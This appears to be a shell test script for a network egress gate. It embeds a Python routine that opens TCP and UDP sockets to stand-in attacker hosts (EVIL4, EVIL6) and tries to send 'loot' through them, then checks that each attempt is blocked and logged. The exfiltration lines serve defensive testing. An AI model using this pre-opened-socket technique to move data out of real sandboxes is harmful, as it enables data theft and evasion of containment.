#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: goes on using sockets that it had opened, bound and connected before the gate came
# stopped-by: connect4, sendmsg4, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

living4, living6, fresh = tcp(EVIL4), tcp(EVIL6), tcp(EVIL4)
living4.connect((EVIL4, 443))
living6.connect((EVIL6, 443))
connected, unconnected = udp(EVIL4), udp(EVIL4)
connected.connect((EVIL4, 9000))
unconnected.bind((OWN4, 0))
ready()
with attempt("living, IPv4"):
    living4.sendall(loot("living4"))
    living4.send(b"!", socket.MSG_OOB)
with attempt("living, IPv6"):
    living6.sendall(loot("living6"))
with attempt("connected, UDP"):
    connected.send(loot("connected"))
with attempt("unconnected, UDP"):
    unconnected.sendto(loot("unconnected"), (EVIL4, 9000))
with attempt("fresh"):
    fresh.connect((EVIL4, 443))
    fresh.sendall(loot("fresh"))
living4.close() # the FIN, too
PYTHON
works_once_open stolen:living4 stolen:living6 stolen:connected stolen:unconnected stolen:fresh
stopped_once_open gate
recorded 'egress|sock_destroy' destination
recorded connect4 destination
recorded sendmsg4 destination
